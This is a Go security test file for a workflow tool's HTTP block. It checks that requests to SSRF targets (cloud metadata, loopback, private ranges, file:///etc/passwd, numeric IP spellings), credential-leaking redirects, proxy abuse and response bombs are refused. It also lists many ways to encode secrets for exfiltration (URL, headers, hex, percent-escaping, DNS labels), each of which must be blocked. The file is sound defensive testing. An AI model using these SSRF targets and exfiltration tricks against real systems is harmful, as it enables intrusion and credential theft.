package security_test

import (
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hushflow/hushflow/internal/app"
	"github.com/hushflow/hushflow/internal/apptest"
)

// HTTP block: cases 18-23 of SECURITY.md, through flows run by the API.
// The policy and pinning are proven in depth by egress/egress_test.go
// (DNS rebinding with a fake resolver included) and
// blocks/httpblock/httpblock_test.go.

// counter is a local service on addr ("127.0.0.1:0", "127.0.0.2:0") that
// counts its hits and records what it received.
type counter struct {
	*httptest.Server
	hits atomic.Int64
	got  atomic.Value // string: the last request's headers, URL and body
}

func newCounter(t *testing.T, addr string, h http.HandlerFunc) *counter {
	c := &counter{}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Skipf("listen on %s: %v", addr, err)
	}
	c.Server = &httptest.Server{Listener: ln, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.hits.Add(1)
		b, _ := io.ReadAll(r.Body)
		c.got.Store(fmt.Sprint(r.Host, r.URL, r.Header, string(b)))
		if h != nil {
			h(w, r)
			return
		}
		w.WriteHeader(200)
		_, _ = w.Write([]byte(`{"ok":true}`))
	})}}
	c.Start()
	t.Cleanup(c.Close)
	return c
}

// refusedRun runs a one-block http flow and returns its error, failing
// the test unless the run failed.
func (e *env) refusedRun(name string, cfg map[string]any) string {
	e.t.Helper()
	if _, ok := cfg["timeout"]; !ok {
		cfg["timeout"] = "'2s'"
	}
	r := e.do("POST", "/api/v1/projects/p/flows", map[string]any{"name": name, "trigger": map[string]any{"type": "manual"},
		"blocks": []any{httpBlock("h", cfg)}})
	if r.Status == 400 {
		return string(r.Body) // refused when the flow is saved
	}
	if r.Status != 201 {
		e.t.Fatalf("save %s: %d %s", name, r.Status, r.Body)
	}
	_, msg := e.runStatus(name, "failed", nil)
	return msg
}

func TestCase18_InternalTargets(t *testing.T) {
	e := sqlite(t, defaultEgress)
	k := canary("c18")
	e.secret("K", k)
	local := newCounter(t, "127.0.0.1:0", nil)
	port := local.Listener.Addr().(*net.TCPAddr).Port
	var local6 *counter
	if ln, err := net.Listen("tcp", "[::1]:0"); err == nil {
		ln.Close()
		local6 = newCounter(t, "[::1]:0", nil)
	}
	targets := map[string]string{
		"loopback":   fmt.Sprintf("http://127.0.0.1:%d/x", port),
		"localhost":  fmt.Sprintf("http://localhost:%d/x", port),
		"metadata":   "http://169.254.169.254/latest/meta-data/",
		"private10":  "http://10.0.0.1/x",
		"private192": "http://192.168.0.1/x",
		"zero":       fmt.Sprintf("http://0.0.0.0:%d/x", port),
		"mapped":     fmt.Sprintf("http://[::ffff:127.0.0.1]:%d/x", port),
		"file":       "file:///etc/passwd",
		"gopher":     fmt.Sprintf("gopher://127.0.0.1:%d/x", port),
	}
	if local6 != nil {
		targets["ipv6"] = fmt.Sprintf("http://[::1]:%d/x", local6.Listener.Addr().(*net.TCPAddr).Port)
	}
	for name, u := range targets {
		start := time.Now()
		msg := e.refusedRun("t-"+name, map[string]any{"url": quote(u), "headers": "({Authorization: 'Bearer ' + secrets.K})", "timeout": "'6s'"})
		took := time.Since(start)
		if !strings.Contains(msg, "egress refused") && !strings.Contains(msg, "scheme") {
			t.Errorf("%s: not refused by the egress policy: %s", name, msg)
		}
		// Refused at the policy check, not after a connect attempt (which
		// to a black-holed private address would last the 6s timeout).
		if took > 3*time.Second {
			t.Errorf("%s: refused after %s (a connection was tried?)", name, took)
		}
		t.Logf("%s: %s", name, msg)
	}
	if n := local.hits.Load(); n != 0 {
		t.Errorf("the loopback service was hit %d times", n)
	}
	if local6 != nil && local6.hits.Load() != 0 {
		t.Errorf("the [::1] service was hit")
	}
	e.sweep(nil)
}

func TestCase19_NamesResolvingInternally(t *testing.T) {
	e := sqlite(t, defaultEgress)
	k := canary("c19")
	e.secret("K", k)
	local := newCounter(t, "127.0.0.1:0", nil)
	port := local.Listener.Addr().(*net.TCPAddr).Port
	// Names and spellings that reach loopback only after resolution or
	// parsing: the check must be on the dialed IP. (DNS rebinding needs a
	// resolver that changes its answer: egress/egress_test.go has it.)
	for name, host := range map[string]string{
		"localhost": "localhost", "upper-dot": "LOCALHOST.", "short": "127.1", "decimal": "2130706433", "hex": "0x7f000001",
	} {
		msg := e.refusedRun("n-"+name, map[string]any{
			"url": quote(fmt.Sprintf("http://%s:%d/x", host, port)), "headers": "({Authorization: 'Bearer ' + secrets.K})"})
		t.Logf("%s: %s", name, msg)
		if name == "localhost" {
			contains(t, name, msg, "egress refused")
			// The request is named once (issue 18 item 10: it was named
			// three times, by the block, net/url and net).
			if n := strings.Count(msg, fmt.Sprintf("localhost:%d", port)); n != 1 {
				t.Errorf("the refused request is named %d times: %s", n, msg)
			}
		}
	}
	if n := local.hits.Load(); n != 0 {
		t.Errorf("the loopback service was reached %d times through a name", n)
	}
	e.sweep(nil)
}

func TestCase20_RedirectToInternal(t *testing.T) {
	k := canary("c20")
	t.Run("RefusedByPolicy", func(t *testing.T) {
		// 127.0.0.2 plays the public first hop; 127.0.0.1 is internal.
		e := sqlite(t, func(c *app.Config) { c.HTTPAllow = "127.0.0.2/32"; c.RateLimit = -1 })
		e.secret("K", k)
		inner := newCounter(t, "127.0.0.1:0", nil)
		first := newCounter(t, "127.0.0.2:0", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, inner.URL+"/meta", http.StatusFound)
		})
		msg := e.refusedRun("redir", map[string]any{"url": quote(first.URL + "/go"), "headers": "({Authorization: 'Bearer ' + secrets.K})"})
		contains(t, "redirect error", msg, "egress refused")
		if first.hits.Load() != 1 || inner.hits.Load() != 0 {
			t.Errorf("hits: first %d, internal %d", first.hits.Load(), inner.hits.Load())
		}
		e.sweep(nil)
	})
	t.Run("CredentialsNotCarried", func(t *testing.T) {
		e := sqlite(t, func(c *app.Config) { c.HTTPAllow = "127.0.0.0/8"; c.RateLimit = -1 })
		e.secret("K", k)
		other := newCounter(t, "127.0.0.1:0", nil)
		first := newCounter(t, "127.0.0.2:0", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, other.URL+"/landing", http.StatusTemporaryRedirect)
		})
		e.flow("carry", httpBlock("h", map[string]any{"url": quote(first.URL + "/go"),
			"headers": "({Authorization: 'Bearer ' + secrets.K, 'X-Custom': 'k=' + secrets.K, Cookie: 'a=b'})"}))
		e.runStatus("carry", "succeeded", nil)
		got, _ := other.got.Load().(string)
		if other.hits.Load() != 1 || got == "" {
			t.Fatalf("the redirect was not followed: %d", other.hits.Load())
		}
		if strings.Contains(got, "Authorization") || strings.Contains(got, "X-Custom") || strings.Contains(got, "Cookie") || strings.Contains(got, k) {
			t.Errorf("credentials carried to another host: %s", got)
		}
		e.sweep(nil)
	})
	t.Run("SecretBodyNotResent", func(t *testing.T) {
		// A 307 or 308 sends the body again: to another host, not when
		// it holds a secret's value (pinned or not); a body without one,
		// and the same host, are followed.
		e := sqlite(t, func(c *app.Config) { c.HTTPAllow = "127.0.0.0/8"; c.RateLimit = -1 })
		e.secret("K", k)
		other := newCounter(t, "127.0.0.1:0", nil)
		for _, code := range []int{http.StatusTemporaryRedirect, http.StatusPermanentRedirect} {
			name := fmt.Sprintf("resend-%d", code)
			first := newCounter(t, "127.0.0.2:0", func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/same" {
					http.Redirect(w, r, "/landing", code)
					return
				}
				if r.URL.Path == "/landing" {
					w.WriteHeader(200)
					return
				}
				http.Redirect(w, r, other.URL+"/landing", code)
			})
			before := other.hits.Load()
			msg := e.refusedRun(name, map[string]any{"method": "'POST'", "url": quote(first.URL + "/go"), "body": "({client_secret: secrets.K})", "body_type": "'form'"})
			contains(t, "redirect refusal", msg, `would send the request body again, and it holds the value of secret "K": not followed`)
			if other.hits.Load() != before {
				t.Errorf("%d: the body went to the other host", code)
			}
			e.flow(name+"-plain", httpBlock("h", map[string]any{"method": "'POST'", "url": quote(first.URL + "/go"), "body": "({n: 1})"}))
			e.runStatus(name+"-plain", "succeeded", nil)
			e.flow(name+"-same", httpBlock("h", map[string]any{"method": "'POST'", "url": quote(first.URL + "/same"), "body": "({k: secrets.K})"}))
			e.runStatus(name+"-same", "succeeded", nil)
			if other.hits.Load() != before+1 {
				t.Errorf("%d: the redirect of a body without a secret was not followed", code)
			}
		}
		e.sweep(nil)
	})
}

func TestCase21_ProxyInEnvironment(t *testing.T) {
	// The proxy listens on an address the policy allows (127.0.0.2): were
	// the environment's proxy used, every request would dial it and pass
	// the policy check, whatever its real destination.
	proxy := newCounter(t, "127.0.0.2:0", nil)
	for _, v := range []string{"HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY"} {
		t.Setenv(v, proxy.URL)
	}
	t.Setenv("NO_PROXY", "")
	t.Setenv("no_proxy", "")
	e := sqlite(t, func(c *app.Config) { c.HTTPAllow = "127.0.0.2/32"; c.RateLimit = -1 })
	k := canary("c21")
	e.secret("K", k)
	for name, u := range map[string]string{"private": "http://10.0.0.1/x", "metadata": "http://169.254.169.254/", "loopback": "http://127.0.0.1:9/x"} {
		msg := e.refusedRun("px-"+name, map[string]any{"url": quote(u), "headers": "({Authorization: 'Bearer ' + secrets.K})", "timeout": "'1s'"})
		contains(t, name, msg, "egress refused")
	}
	if n := proxy.hits.Load(); n != 0 {
		t.Errorf("the environment's proxy was used %d times", n)
	}
	e.sweep(nil)
}

func TestCase22_Exfiltration(t *testing.T) {
	e := sqlite(t, func(c *app.Config) { c.HTTPAllow = "127.0.0.0/8"; c.RateLimit = -1 })
	hostA := newCounter(t, "127.0.0.1:0", nil)
	hostB := newCounter(t, "127.0.0.2:0", nil)
	k := canary("c22")
	e.secret("K", k, map[string]any{"allowed_hosts": []string{"127.0.0.1"}})
	// A value short enough for its hex to fit in one DNS label.
	var rb [10]byte
	_, _ = rand.Read(rb[:])
	short := `d&<>"%\` + hex.EncodeToString(rb[:])
	e.secret("SHORT", short, map[string]any{"allowed_hosts": []string{"127.0.0.1"}})
	e.flow("to-a", httpBlock("h", map[string]any{"method": "'POST'", "url": quote(hostA.URL + "/ok"), "headers": "({Authorization: 'Bearer ' + secrets.K})", "body": "({k: secrets.K})"}))
	e.runStatus("to-a", "succeeded", nil)
	if hostA.hits.Load() != 1 {
		t.Fatalf("host A: %d hits", hostA.hits.Load())
	}
	b := hostB.URL
	hexK := "Array.from(secrets.K).map(c => c.charCodeAt(0).toString(16).padStart(2, '0')).join('')"
	pctK := "Array.from(secrets.K).map(c => '%' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('')"
	ways := map[string]map[string]any{
		"url":      {"url": "`" + b + "/x?q=${encodeURIComponent(secrets.K)}`"},
		"path":     {"url": "`" + b + "/${encodeURIComponent(secrets.K)}`"},
		"header":   {"url": quote(b + "/x"), "headers": "({'X-Whatever': secrets.K})"},
		"auth":     {"url": quote(b + "/x"), "headers": "({Authorization: 'Basic ' + btoa('user:' + secrets.K)})"},
		"body":     {"method": "'POST'", "url": quote(b + "/x"), "body": "({data: secrets.K})"},
		"text":     {"method": "'POST'", "url": quote(b + "/x"), "body": "'raw ' + secrets.K", "body_type": "'text'"},
		"base64":   {"method": "'POST'", "url": quote(b + "/x"), "body": "({data: btoa(secrets.K)})"},
		"form":     {"method": "'POST'", "url": quote(b + "/x"), "body": "({data: secrets.K})", "body_type": "'form'"},
		"hex":      {"method": "'POST'", "url": quote(b + "/x"), "body": "({data: " + hexK + "})"},
		"dnslabel": {"url": "`http://${" + strings.ReplaceAll(hexK, "secrets.K", "secrets.SHORT") + "}.example.invalid/`"},
		"query":    {"url": quote(b + "/x"), "query": "({k: secrets.K})"},
		// Escaped character by character, which the server decodes back
		// (attacker round four).
		"pct-all":  {"url": "'" + b + "/p/' + " + pctK + " + '?q=' + " + pctK},
		"json-u":   {"method": "'POST'", "url": quote(b + "/x"), "body": "'{\"k\":\"' + " + strings.ReplaceAll(pctK, "'%'", "'\\\\u00'") + " + '\"}'", "body_type": "'text'"},
		"pct-body": {"method": "'POST'", "url": quote(b + "/x"), "body": "'k=' + " + pctK, "body_type": "'text'"},
		// JSON in a form field, percent-escaped; XML character references
		// (attacker round five).
		"form-json": {"method": "'POST'", "url": quote(b + "/x"), "body_type": "'text'",
			"body": "'payload=' + encodeURIComponent('{\"text\":\"' + Array.from(secrets.K).map(c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '\"}')"},
		"xml-refs": {"method": "'POST'", "url": quote(b + "/x"), "body_type": "'text'",
			"body": "'<a>' + Array.from(secrets.K).map(c => '&#' + c.charCodeAt(0) + ';').join('') + '</a>'"},
	}
	for name, cfg := range ways {
		msg := e.refusedRun("ex-"+name, cfg)
		if !strings.Contains(msg, `may only be sent to 127.0.0.1`) {
			t.Errorf("%s: not refused by pinning: %s", name, msg)
		}
	}
	if n := hostB.hits.Load(); n != 0 {
		t.Errorf("host B received %d requests", n)
	}
	// The refused requests' events do not show the value escaped
	// character by character either (attacker round five: pinning saw
	// through it, the events did not).
	var pct, refs strings.Builder
	for _, c := range []byte(k) {
		fmt.Fprintf(&pct, "%%%02x", c)
		fmt.Fprintf(&refs, "&#%d;", c)
	}
	for _, id := range e.runs[1:] {
		st, _ := e.events(id)
		apptest.AssertAbsent(t, "events of "+id, st, pct.String(), refs.String())
	}
	// Audited: every refusal is an egress_refused event naming the
	// secret and the host.
	refused := 0
	for _, id := range e.runs[1:] {
		st, _ := e.events(id)
		if strings.Contains(st, `"egress_refused"`) && (strings.Contains(st, `"secret":"K"`) || strings.Contains(st, `"secret":"SHORT"`)) {
			refused++
		}
	}
	if refused != len(ways) {
		t.Errorf("%d of %d refusals have an egress_refused event", refused, len(ways))
	}
	// And an egress_refused audit record, naming the host and the run.
	for name, want := range map[string]int{"K": len(ways) - 1, "SHORT": 1} {
		audited := 0
		for _, r := range e.must(200, "GET", "/api/v1/audit?limit=1000&secret="+name, nil)["records"].([]any) {
			rec := r.(map[string]any)
			if rec["action"] == "egress_refused" && rec["run_id"] != "" && strings.Contains(fmt.Sprint(rec["detail"]), "a request to ") {
				audited++
			}
		}
		if audited != want {
			t.Errorf("%s: %d egress_refused audit records, want %d", name, audited, want)
		}
	}
	// A header name is sent case-folded (X-Abc..., or lower case over
	// HTTP/2): a secret in one is refused before anything is sent, pinned
	// or not, and the error shows the mask.
	var tb [16]byte
	_, _ = rand.Read(tb[:])
	token := "tokc22" + hex.EncodeToString(tb[:]) // token characters only: a valid header name
	e.secret("TOKEN", token, map[string]any{"allowed_hosts": []string{"127.0.0.1"}})
	e.secret("FREE", "free"+token[6:], nil)
	e.plant(token[6:]) // in every case-folded form of both
	for name, js := range map[string]string{
		"name-pinned":   "({['X-' + secrets.TOKEN]: '1'})",
		"name-unpinned": "({['X-' + secrets.FREE]: '1'})",
		"name-of-two":   "({[secrets.FREE + '-' + secrets.TOKEN]: 'x'})",
	} {
		msg := e.refusedRun("ex-"+name, map[string]any{"url": quote(b + "/x"), "headers": js})
		if !strings.Contains(msg, "holds a secret value: a secret goes in a header's value, never in its name") || !strings.Contains(msg, "[REDACTED") {
			t.Errorf("%s: %s", name, msg)
		}
	}
	if n := hostB.hits.Load(); n != 0 {
		t.Errorf("host B received %d requests", n)
	}
	e.sweep(nil)
}

func TestCase23_ResponseBombs(t *testing.T) {
	if testing.Short() {
		t.Skip("response bombs, two of them to their deadlines: skipped in -short mode")
	}
	e := sqlite(t, noRateLimit)
	k := canary("c23")
	e.secret("K", k)
	var gz bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&gz, gzip.BestCompression)
	_, _ = zw.Write(make([]byte, 64<<20))
	_ = zw.Close()
	bomb := newCounter(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {
		f, _ := w.(http.Flusher)
		chunk := bytes.Repeat([]byte("A"), 32<<10)
		switch r.URL.Path {
		case "/endless":
			for {
				if _, err := w.Write(chunk); err != nil {
					return
				}
			}
		case "/drip":
			for {
				if _, err := w.Write([]byte("x")); err != nil {
					return
				}
				f.Flush()
				select {
				case <-r.Context().Done():
					return
				case <-time.After(100 * time.Millisecond):
				}
			}
		case "/gzip":
			w.Header().Set("Content-Encoding", "gzip")
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write(gz.Bytes())
		case "/headers":
			for i := range 200 {
				w.Header().Set(fmt.Sprintf("X-Big-%d", i), strings.Repeat("h", 1000))
			}
			w.WriteHeader(200)
		case "/slowheaders":
			select {
			case <-r.Context().Done():
			case <-time.After(10 * time.Second):
			}
		}
	})
	before := runtime.NumGoroutine()
	for name, cfg := range map[string]map[string]any{
		"endless":     {"url": quote(bomb.URL + "/endless"), "max_response_bytes": 1 << 20},
		"drip":        {"url": quote(bomb.URL + "/drip"), "timeout": "'1s'"},
		"gzip":        {"url": quote(bomb.URL + "/gzip"), "headers": "({'Accept-Encoding': 'gzip'})", "max_response_bytes": 1 << 20},
		"gzipauto":    {"url": quote(bomb.URL + "/gzip"), "max_response_bytes": 1 << 20},
		"headers":     {"url": quote(bomb.URL + "/headers")},
		"slowheaders": {"url": quote(bomb.URL + "/slowheaders"), "timeout": "'1s'"},
	} {
		cfg["headers"] = "({Authorization: 'Bearer ' + secrets.K})"
		start := time.Now()
		e.flow("b-"+name, httpBlock("h", cfg))
		r := e.run("b-"+name, nil)
		took := time.Since(start)
		t.Logf("%s: %v in %s: %.200v", name, r["status"], took.Round(time.Millisecond), r["error"])
		if took > 5*time.Second {
			t.Errorf("%s: bounded only after %s", name, took)
		}
		if name != "gzip" && name != "gzipauto" && r["status"] != "failed" {
			t.Errorf("%s: %v", name, r["status"])
		}
		if strings.HasPrefix(name, "gzip") && r["status"] == "succeeded" && len(js(r["output"])) > 2<<20 {
			t.Errorf("%s: the gzip bomb was inflated into the output", name)
		}
	}
	healthy(t, e.s, 2*time.Second)
	e.sweep(nil)
	// No goroutine or connection leak: the count comes back near the
	// baseline once idle connections are closed.
	apptest.Eventually(t, 10*time.Second, "the goroutine count to come back near the baseline", func() error {
		http.DefaultClient.CloseIdleConnections()
		if n := runtime.NumGoroutine(); n > before+10 {
			buf := make([]byte, 1<<20)
			return fmt.Errorf("%d before, %d after: %s", before, n, buf[:runtime.Stack(buf, true)])
		}
		return nil
	})
	t.Logf("goroutines: %d before, %d after", before, runtime.NumGoroutine())
}
